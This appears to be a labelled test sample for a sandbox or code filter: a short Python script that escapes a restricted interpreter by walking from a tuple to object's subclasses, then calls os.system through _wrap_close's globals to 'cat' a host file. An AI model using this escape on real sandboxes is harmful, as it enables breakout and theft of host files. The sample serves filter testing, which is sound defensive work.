# family: injection
# filterfamily: encoded-exec
# tries: the classic jail walk from a tuple to object's subclasses, to a class whose function globals hold the shell runner
# source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# exfil: yes
import sys

hosttmp = sys.argv[3]
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("cat " + hosttmp)
        break
